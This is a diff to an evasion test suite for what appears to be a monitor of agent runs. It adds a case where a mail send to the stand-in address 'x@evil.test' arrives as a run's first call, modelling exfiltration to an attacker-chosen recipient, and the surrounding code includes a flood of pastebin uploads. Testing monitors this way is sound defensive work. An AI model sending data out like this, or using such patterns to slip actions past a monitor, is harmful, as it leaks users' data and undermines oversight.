@@ -785,6 +785,12 @@ async def evasion(ctx: Ctx) -> list[Row]:
                                      payload={"id": 7}))
     rows.append(Row("evasion: a new action in a learned step's payload shape", "not allowed",
                     same_shape, same_shape in ("pause", "reject")))
+    # round 4: a known action where it never came, in the shape of the step that comes there
+    # (a send without its draft, to a recipient of the attacker's choosing)
+    send_first = await verdict(event(run_id="send-0", service="mail", action="messages.send",
+                                     payload={"to": "x@evil.test", "body": "data"}))
+    rows.append(Row("evasion: a known action as a run's first call, in the first step's shape",
+                    "not allowed", send_first, send_first in ("pause", "reject")))
     flood = [await verdict(event(run_id=f"up-{i}", service="pastebin", action="files.upload",
                                  payload={"name": "x", "data": "y"}, end_of_run=True))
              for i in range(12)]
